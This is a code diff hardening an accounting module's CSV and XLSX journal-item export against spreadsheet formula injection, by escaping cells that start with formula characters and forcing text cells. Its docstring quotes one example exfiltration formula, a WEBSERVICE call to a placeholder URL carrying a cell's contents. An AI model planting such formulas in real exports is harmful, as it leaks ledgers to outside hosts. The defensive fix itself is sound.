@@ -20,6 +20,24 @@ FEC_WIZARD = "l10n_fr.fec.export.wizard"
 # Journal items read (and written out) at a time.
 EXPORT_BATCH_SIZE = 5000
 HASH_CHUNK = 1024 * 1024
+# What a spreadsheet reads as the start of a formula (OWASP "CSV injection").
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value):
+    """``value`` as a CSV cell that a spreadsheet shows as text.
+
+    Partner names are set by customers themselves on /my/account and line
+    labels by any invoicing user: Excel or LibreOffice would run a cell such as
+    ``=WEBSERVICE("http://…?"&A2)`` opened from the accountant's file and send
+    the ledger out. A leading ``'`` makes the spreadsheet show the text as is
+    (OWASP). Only text is touched: amounts are written as numbers, and a
+    negative one must stay a number. XLSX needs none of this: its text cells
+    are typed as text (see ``_export_xlsx``).
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return f"'{value}"
+    return value
 
 
 @dataclass
@@ -192,7 +210,7 @@ class InvoiceAccountantBatchExport(models.AbstractModel):
         writer.writerow(self._columns())
         for row in self._rows(company, date_from, date_to, counts):
             row[2] = fields.Date.to_string(row[2])
-            writer.writerow(row)
+            writer.writerow([spreadsheet_text(cell) for cell in row])
         text.flush()
         text.detach()
         return self._finish(file, f"{base_name}.csv", "text/csv;charset=utf-8", counts)
@@ -204,21 +222,29 @@ class InvoiceAccountantBatchExport(models.AbstractModel):
         os.close(handle)
         try:
             # constant_memory: each row goes to disk as soon as the next starts.
-            workbook = xlsxwriter.Workbook(path, {"constant_memory": True, "tmpdir": tempfile.gettempdir()})
+            # Text is written as text, never as a formula or a link, whatever a
+            # customer or a user typed (names and labels start with "=" too).
+            workbook = xlsxwriter.Workbook(
+                path,
+                {
+                    "constant_memory": True,
+                    "tmpdir": tempfile.gettempdir(),
+                    "strings_to_formulas": False,
+                    "strings_to_urls": False,
+                },
+            )
             sheet = workbook.add_worksheet(self.env._("Journal Items"))
             bold = workbook.add_format({"bold": True})
             date_format = workbook.add_format({"num_format": "yyyy-mm-dd"})
             amount = workbook.add_format({"num_format": "#,##0.00"})
-            sheet.write_row(0, 0, self._columns(), bold)
+            for column, title in enumerate(self._columns()):
+                sheet.write_string(0, column, title, bold)
             for index, row in enumerate(self._rows(company, date_from, date_to, counts), start=1):
-                sheet.write_row(index, 0, row[:2])
+                for column in (0, 1, 3, 4, 5, 6, 9, 11):
+                    sheet.write_string(index, column, row[column] or "")
                 sheet.write_datetime(index, 2, fields.Datetime.to_datetime(row[2]), date_format)
-                sheet.write_row(index, 3, row[3:7])
-                sheet.write_number(index, 7, row[7], amount)
-                sheet.write_number(index, 8, row[8], amount)
-                sheet.write_string(index, 9, row[9] or "")
-                sheet.write_number(index, 10, row[10], amount)
-                sheet.write_string(index, 11, row[11])
+                for column in (7, 8, 10):
+                    sheet.write_number(index, column, row[column], amount)
             workbook.close()
             file = open(path, "rb")
         finally:
